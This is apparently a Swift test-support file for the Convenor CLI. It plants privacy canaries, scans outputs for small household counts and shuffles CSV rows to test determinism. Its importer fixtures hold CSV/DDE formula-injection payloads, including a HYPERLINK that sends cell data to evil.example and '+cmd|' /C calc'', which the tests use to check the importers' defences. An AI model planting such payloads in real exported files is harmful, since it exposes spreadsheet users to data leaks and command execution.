import Foundation
import ZIPFoundation
import ConvenorTestSupport

/// Shared by the privacy, determinism and atomic-output tests (issue 8): fixtures with planted
/// household ids, every command that exists, and a scanner that reads every output (zips opened).
enum Security {
    static let canaryPrefix = "PRIVACY-CANARY-"

    /// The Northbridge example in both forms, with every household id replaced by `PRIVACY-CANARY-<n>`.
    struct CanaryPortfolio {
        let folder: URL
        var csv: String { folder.appendingPathComponent("csv").path }
        var xml: String { folder.appendingPathComponent("xml/portfolio.xml").path }
        let households: Int
    }

    static func canaryPortfolio() throws -> CanaryPortfolio {
        let fm = FileManager.default
        let root = try CLIRunner.temporaryDirectory().appendingPathComponent("canary")
        let example = CLIRunner.root.appendingPathComponent("examples/northbridge")
        try fm.createDirectory(at: root.appendingPathComponent("xml"), withIntermediateDirectories: true)
        try fm.copyItem(at: example.appendingPathComponent("csv"), to: root.appendingPathComponent("csv"))
        try fm.copyItem(at: example.appendingPathComponent("portfolio.xml"), to: root.appendingPathComponent("xml/portfolio.xml"))
        let contacts = try String(contentsOf: example.appendingPathComponent("csv/contacts.csv"), encoding: .utf8)
        var lines = contacts.split(separator: "\n", omittingEmptySubsequences: false).map(String.init)
        let header = lines[0].split(separator: ",").map(String.init)
        guard let column = header.firstIndex(of: "household") else { throw CocoaError(.fileReadCorruptFile) }
        var canaries: [String: String] = [:]
        for i in 1..<lines.count where !lines[i].isEmpty {
            var cells = lines[i].split(separator: ",", omittingEmptySubsequences: false).map(String.init)
            let id = cells[column]
            let canary = canaries[id] ?? "\(canaryPrefix)\(canaries.count + 1)"
            canaries[id] = canary
            cells[column] = canary
            lines[i] = cells.joined(separator: ",")
        }
        let text = lines.joined(separator: "\n")
        try Data(text.utf8).write(to: root.appendingPathComponent("csv/contacts.csv"))
        try Data(text.utf8).write(to: root.appendingPathComponent("xml/contacts.csv"))
        return CanaryPortfolio(folder: root, households: canaries.count)
    }

    /// One way of running a command: its arguments for an input and an output path, and which
    /// output files may legitimately hold household ids (only convert's contacts files).
    struct CommandCase: CustomStringConvertible, Sendable {
        var name: String
        var arguments: @Sendable (_ input: String, _ output: String) -> [String]
        /// Output file names (last path component) that carry the user's own contacts.
        var carriesContacts: Set<String> = []
        /// Whether rows given in another order must give the same bytes (false for convert, which keeps the user's order).
        var orderIndependent = true
        /// Exit codes that mean the run worked (check exits 1 when it finds errors).
        var exitCodes: Set<Int32> = [0]
        /// Output that names source lines (check): rows in another order move the lines, so the
        /// shuffle test compares the findings with locations taken out, in sorted order.
        var namesSourceLines = false
        var description: String { name }
    }

    /// Every command that reads a portfolio, in every output mode. Extend as commands land.
    static let commands: [CommandCase] = [
        CommandCase(name: "validate", arguments: { input, _ in ["validate", input] }),
        CommandCase(name: "validate --format json", arguments: { input, _ in ["validate", input, "--format", "json"] }),
        CommandCase(name: "convert → CSV folder", arguments: { input, out in ["convert", input, "-o", out] },
                    carriesContacts: ["contacts.csv"], orderIndependent: false),
        CommandCase(name: "convert → XML", arguments: { input, out in ["convert", input, "-o", out + ".xml"] },
                    carriesContacts: ["out-contacts.csv"], orderIndependent: false),
        CommandCase(name: "overlap", arguments: { input, out in ["overlap", input, "-o", out] }),
        CommandCase(name: "register", arguments: { input, out in ["register", input, "-o", out] }),
        CommandCase(name: "check", arguments: { input, _ in ["check", input] }, exitCodes: [0, 1], namesSourceLines: true),
        CommandCase(name: "check --format github", arguments: { input, _ in ["check", input, "--format", "github"] }, exitCodes: [0, 1], namesSourceLines: true),
        CommandCase(name: "check --format json", arguments: { input, _ in ["check", input, "--format", "json"] }, exitCodes: [0, 1], namesSourceLines: true),
        CommandCase(name: "diff (example → input)", arguments: { input, _ in ["diff", Security.exampleXML, input] }),
        CommandCase(name: "diff --format json", arguments: { input, _ in ["diff", Security.exampleCSV, input, "--format", "json"] }),
        CommandCase(name: "pack overlap-walk", arguments: { input, out in ["pack", "overlap-walk", "--portfolio", input, "-o", out] }),
        CommandCase(name: "pack pilot-review", arguments: { input, out in ["pack", "pilot-review", "--portfolio", input, "-o", out] }),
        CommandCase(name: "demo", arguments: { input, out in ["demo", "-o", out, "--portfolio", input] }),
    ]

    /// Extra modes looked at by the privacy test only (same code paths as above for determinism).
    static let privacyOnly: [CommandCase] = [
        CommandCase(name: "overlap --suppress-below 10", arguments: { input, out in ["overlap", input, "-o", out, "--suppress-below", "10"] }),
        CommandCase(name: "overlap --no-suppression", arguments: { input, out in ["overlap", input, "-o", out, "--no-suppression"] }),
        CommandCase(name: "diff --format markdown", arguments: { input, _ in ["diff", Security.exampleXML, input, "--format", "markdown"] }),
        CommandCase(name: "pack whats-stopping-us", arguments: { input, out in ["pack", "whats-stopping-us", "--portfolio", input, "-o", out] }),
        CommandCase(name: "pack place-leadership", arguments: { input, out in ["pack", "place-leadership", "--portfolio", input, "-o", out] }),
        CommandCase(name: "pack system-wide", arguments: { input, out in ["pack", "system-wide", "--portfolio", input, "-o", out] }),
    ]

    /// Every way a command writes output (issue 19), with its arguments for an output path; imports read
    /// the small open-data files `importInputs` makes in `inputs`. Extend as commands that write land.
    struct OutputWriter: CustomStringConvertible, Sendable {
        var name: String
        /// A single file (.xml) rather than a folder.
        var isFile = false
        var arguments: @Sendable (_ inputs: URL, _ output: String) -> [String]
        var description: String { name }
    }

    static let outputWriters: [OutputWriter] = [
        OutputWriter(name: "convert → CSV folder") { _, out in ["convert", exampleXML, "-o", out] },
        OutputWriter(name: "convert → XML", isFile: true) { _, out in ["convert", exampleCSV, "-o", out] },
        OutputWriter(name: "overlap") { _, out in ["overlap", exampleCSV, "-o", out] },
        OutputWriter(name: "register") { _, out in ["register", exampleCSV, "-o", out] },
        OutputWriter(name: "pack") { _, out in ["pack", "pilot-review", "--portfolio", exampleCSV, "-o", out] },
        OutputWriter(name: "demo") { _, out in ["demo", "-o", out] },
        OutputWriter(name: "import iati → CSV folder") { inputs, out in ["import", "iati", inputs.appendingPathComponent("iati.xml").path, "-o", out] },
        OutputWriter(name: "import iati → XML", isFile: true) { inputs, out in ["import", "iati", inputs.appendingPathComponent("iati.xml").path, "-o", out] },
        OutputWriter(name: "import 360giving → CSV folder") { inputs, out in ["import", "360giving", inputs.appendingPathComponent("grants.csv").path, "-o", out] },
    ]

    /// Small IATI and 360Giving files whose names look like spreadsheet formulas, for the importers.
    static func importInputs() throws -> URL {
        let dir = try CLIRunner.temporaryDirectory()
        try Data("""
        <?xml version="1.0" encoding="UTF-8"?>
        <iati-activities version="2.03" generated-datetime="2026-03-01T10:00:00Z">
          <iati-activity default-currency="GBP" xml:lang="en">
            <iati-identifier>GB-TEST-1</iati-identifier>
            <reporting-org ref="GB-TEST" type="10"><narrative>=HYPERLINK("http://evil.example/?"&amp;A1,"Click")</narrative></reporting-org>
            <title><narrative>+cmd|' /C calc'!A0</narrative></title>
            <activity-status code="2"/>
            <activity-date type="2" iso-date="2025-04-01"/>
          </iati-activity>
        </iati-activities>

        """.utf8).write(to: dir.appendingPathComponent("iati.xml"))
        try Data("""
        Identifier,Title,Description,Currency,Amount Awarded,Award Date,Recipient Org:Identifier,Recipient Org:Name,Funding Org:Identifier,Funding Org:Name,Grant Programme:Title
        360G-x-1,@SUM(1+1),"=1+2",GBP,1000,2025-05-01,GB-CHC-1,-2+3,GB-FUND-1,=cmd,=Programme

        """.utf8).write(to: dir.appendingPathComponent("grants.csv"))
        return dir
    }

    static let exampleXML = CLIRunner.root.appendingPathComponent("examples/northbridge/portfolio.xml").path
    static let exampleCSV = CLIRunner.root.appendingPathComponent("examples/northbridge/csv").path

    /// Everything a run produced: stdout, stderr and every file under `folder`, with the contents
    /// of zip packages (.zip, .xlsx, .docx, .pptx) listed as `file!entry`.
    struct Outputs {
        var streams: [String: Data] = [:]
        var files: [String: Data] = [:]
        var all: [(String, Data)] { streams.sorted { $0.key < $1.key } + files.sorted { $0.key < $1.key } }
    }

    static func collect(_ run: CLIRunner.Result, folder: URL) throws -> Outputs {
        var out = Outputs()
        out.streams["stdout"] = Data(run.stdout.utf8)
        out.streams["stderr"] = Data(run.stderr.utf8)
        let base = folder.standardizedFileURL.path
        guard let walker = FileManager.default.enumerator(at: folder, includingPropertiesForKeys: [.isRegularFileKey]) else { return out }
        for case let url as URL in walker {
            guard (try? url.resourceValues(forKeys: [.isRegularFileKey]))?.isRegularFile == true else { continue }
            let relative = String(url.standardizedFileURL.path.dropFirst(base.count + 1))
            let data = try Data(contentsOf: url)
            out.files[relative] = data
            if ["zip", "xlsx", "docx", "pptx"].contains(url.pathExtension.lowercased()) {
                for (entry, contents) in try unzip(data) { out.files["\(relative)!\(entry)"] = contents }
            }
        }
        return out
    }

    static func unzip(_ data: Data) throws -> [(String, Data)] {
        let archive = try Archive(data: data, accessMode: .read)
        var entries: [(String, Data)] = []
        for entry in archive where entry.type == .file {
            var contents = Data()
            _ = try archive.extract(entry) { contents.append($0) }
            entries.append((entry.path, contents))
        }
        return entries
    }

    /// Output files only, as relative path → bytes; for byte-for-byte comparisons.
    static func tree(_ folder: URL) throws -> [String: Data] {
        try collect(CLIRunner.Result(status: 0, stdout: "", stderr: ""), folder: folder).files.filter { !$0.key.contains("!") }
    }

    /// Hidden staging or backup folders/files that a write left behind in `folder`.
    static func debris(in folder: URL) -> [String] {
        let names = (try? FileManager.default.contentsOfDirectory(atPath: folder.path)) ?? []
        return names.filter { $0.hasPrefix(".") && ($0.contains(".convenor-") || $0.contains(".previous-")) }.sorted()
    }

    // MARK: Small-number suppression

    /// Household counts between 1 and `threshold - 1` found in an output, as readable descriptions.
    /// Looks at CSV columns, JSON keys, GraphML/GEXF/DOT attributes and HTML table columns whose
    /// name mentions households (ratios such as household-overlap are not counts and are skipped).
    static func unsuppressedCounts(in name: String, _ data: Data, threshold: Int = 5) -> [String] {
        let text = String(decoding: data, as: UTF8.self)
        var found: [String] = []
        func isSmallCount(_ value: String) -> Bool {
            guard let n = Int(value.trimmingCharacters(in: .whitespaces)) else { return false }
            return n > 0 && n < threshold
        }
        func isCountName(_ name: String) -> Bool {
            let n = name.lowercased()
            return n.contains("household") && !n.contains("overlap") && !n.contains("cost") && !n.contains("caseload")
        }
        let ext = (name as NSString).pathExtension.lowercased()
        if ext == "csv" {
            let rows = parseCSV(text)
            if let header = rows.first {
                for (c, column) in header.enumerated() where isCountName(column) {
                    for row in rows.dropFirst() where c < row.count && isSmallCount(row[c]) {
                        found.append("\(name): \(column) = \(row[c])")
                    }
                }
            }
        } else if ext == "json" {
            // Malformed JSON cannot be scanned, so it is a finding, never "no leak found".
            guard let object = try? JSONSerialization.jsonObject(with: data, options: [.fragmentsAllowed]) else {
                return ["\(name): not valid JSON, so it could not be checked for small counts"]
            }
            do {
                func walk(_ value: Any, key: String?) {
                    if let dict = value as? [String: Any] {
                        for (k, v) in dict { walk(v, key: k) }
                    } else if let array = value as? [Any] {
                        for v in array { walk(v, key: key) }
                    } else if let key, isCountName(key), let number = value as? NSNumber,
                              number.doubleValue == number.doubleValue.rounded(), number.doubleValue >= 1, number.doubleValue < Double(threshold) {
                        found.append("\(name): \(key) = \(number)")
                    }
                }
                walk(object, key: nil)
            }
        } else {
            // GraphML <data key="…">n</data>, GEXF <attvalue for="…" value="n"/>, DOT name="n" or name=n.
            let patterns = [#"key="([^"]*)"[^>]*>\s*([0-9]+)\s*<"#, #"for="([^"]*)"\s+value="([0-9]+)""#, #"([A-Za-z_-]*household[A-Za-z_-]*)\s*=\s*"?([0-9]+)"?"#]
            for pattern in patterns {
                guard let regex = try? NSRegularExpression(pattern: pattern) else { continue }
                for m in regex.matches(in: text, range: NSRange(text.startIndex..., in: text)) {
                    guard let k = Range(m.range(at: 1), in: text), let v = Range(m.range(at: 2), in: text) else { continue }
                    let keyName = String(text[k])
                    if isCountName(keyName) && isSmallCount(String(text[v])) { found.append("\(name): \(keyName) = \(text[v])") }
                }
            }
            // Prose: "3 households", "2 shared households".
            if let prose = try? NSRegularExpression(pattern: #"(?<![0-9.,<])([1-4])\s+(shared\s+)?households?\b"#) {
                for m in prose.matches(in: text, range: NSRange(text.startIndex..., in: text)) {
                    if let r = Range(m.range, in: text) { found.append("\(name): \"\(text[r])\"") }
                }
            }
            if ext == "html" || ext == "htm" { found += unsuppressedInHTMLTables(name, text, isCountName: isCountName, isSmallCount: isSmallCount) }
        }
        return found
    }

    /// HTML tables: cells under a header that names households.
    static func unsuppressedInHTMLTables(_ name: String, _ html: String, isCountName: (String) -> Bool, isSmallCount: (String) -> Bool) -> [String] {
        var found: [String] = []
        guard let table = try? NSRegularExpression(pattern: #"<table\b.*?</table>"#, options: [.dotMatchesLineSeparators]),
              let headerCell = try? NSRegularExpression(pattern: #"<th\b[^>]*>(.*?)</th>"#, options: [.dotMatchesLineSeparators]),
              let row = try? NSRegularExpression(pattern: #"<tr\b[^>]*>(.*?)</tr>"#, options: [.dotMatchesLineSeparators]),
              let cell = try? NSRegularExpression(pattern: #"<t[dh]\b[^>]*>(.*?)</t[dh]>"#, options: [.dotMatchesLineSeparators]),
              let tag = try? NSRegularExpression(pattern: "<[^>]+>") else { return [] }
        func strip(_ s: String) -> String {
            tag.stringByReplacingMatches(in: s, range: NSRange(s.startIndex..., in: s), withTemplate: "").trimmingCharacters(in: .whitespacesAndNewlines)
        }
        func groups(_ regex: NSRegularExpression, _ s: String) -> [String] {
            regex.matches(in: s, range: NSRange(s.startIndex..., in: s)).compactMap { Range($0.range(at: $0.numberOfRanges > 1 ? 1 : 0), in: s).map { String(s[$0]) } }
        }
        for t in table.matches(in: html, range: NSRange(html.startIndex..., in: html)) {
            guard let r = Range(t.range, in: html) else { continue }
            let tableHTML = String(html[r])
            let headers = groups(headerCell, tableHTML).map(strip)
            let countColumns = headers.enumerated().filter { isCountName($0.element) }.map(\.offset)
            guard !countColumns.isEmpty else { continue }
            for rowHTML in groups(row, tableHTML) {
                let cells = groups(cell, rowHTML).map(strip)
                guard cells.count == headers.count else { continue }
                for c in countColumns where isSmallCount(cells[c]) { found.append("\(name): table column '\(headers[c])' = \(cells[c])") }
            }
        }
        return found
    }

    /// RFC 4180 records (quoted fields may hold commas, quotes and line breaks).
    static func parseCSV(_ text: String) -> [[String]] {
        var rows: [[String]] = [], row: [String] = [], field = "", inQuotes = false
        var chars = Array(text).makeIterator()
        var pending: Character?
        while let ch = pending ?? chars.next() {
            pending = nil
            if inQuotes {
                if ch == "\"" {
                    if let next = chars.next() { if next == "\"" { field.append("\"") } else { inQuotes = false; pending = next } } else { inQuotes = false }
                } else { field.append(ch) }
            } else if ch == "\"" { inQuotes = true }
            else if ch == "," { row.append(field); field = "" }
            else if ch == "\n" || ch == "\r\n" { row.append(field); rows.append(row); row = []; field = "" }
            else if ch != "\r" { field.append(ch) }
        }
        if !field.isEmpty || !row.isEmpty { row.append(field); rows.append(row) }
        return rows
    }

    /// The records of a CSV file as raw text (header first), so rows can be reordered byte-exactly.
    static func csvRecords(_ text: String) -> [String] {
        var records: [String] = [], current = "", inQuotes = false
        for ch in text {
            if ch == "\"" { inQuotes.toggle() }
            if !inQuotes && (ch == "\n" || ch == "\r\n") { records.append(current); current = "" } else { current.append(ch) }
        }
        if !current.isEmpty { records.append(current) }
        return records
    }

    /// Files whose row order is meaningful: outputs list neighbourhoods in the portfolio's order (the
    /// office's own geographic order), by design. Every other file's row order must not matter.
    static let orderedFiles: Set<String> = ["neighbourhoods.csv"]
    /// Files whose rows keep their order within a group (first column): an initiative's funding lines
    /// are listed in the order the office gives them; the order across initiatives must not matter.
    static let orderedWithinFirstColumn: Set<String> = ["funding.csv"]

    /// A copy of a CSV portfolio folder with the data rows of every file (but `orderedFiles`) in a different order.
    static func shuffledCopy(of folder: String, seed: UInt64) throws -> String {
        let fm = FileManager.default
        let target = try CLIRunner.temporaryDirectory().appendingPathComponent("shuffled")
        try fm.createDirectory(at: target, withIntermediateDirectories: true)
        var generator = SeededGenerator(seed: seed)
        for name in try fm.contentsOfDirectory(atPath: folder).sorted() where name.hasSuffix(".csv") {
            let text = try String(contentsOfFile: (folder as NSString).appendingPathComponent(name), encoding: .utf8)
            var records = csvRecords(text)
            guard records.count > 2, !orderedFiles.contains(name) else {
                try Data(text.utf8).write(to: target.appendingPathComponent(name)); continue
            }
            let header = records.removeFirst()
            records.shuffle(using: &generator)
            if orderedWithinFirstColumn.contains(name) {
                // Put each group's rows back in their original order, in the shuffled slots.
                let original = csvRecords(text).dropFirst()
                func key(_ r: String) -> String { String(r.prefix { $0 != "," }) }
                var queues: [String: [String]] = [:]
                for r in original { queues[key(r), default: []].append(r) }
                records = records.map { r in queues[key(r)]!.removeFirst() }
            }
            try Data(([header] + records).joined(separator: "\n").appending("\n").utf8).write(to: target.appendingPathComponent(name))
        }
        return target.path
    }

    struct SeededGenerator: RandomNumberGenerator {
        var state: UInt64
        init(seed: UInt64) { state = seed }
        mutating func next() -> UInt64 {
            state &+= 0x9E37_79B9_7F4A_7C15
            var z = state
            z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
            z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
            return z ^ (z >> 31)
        }
    }
}
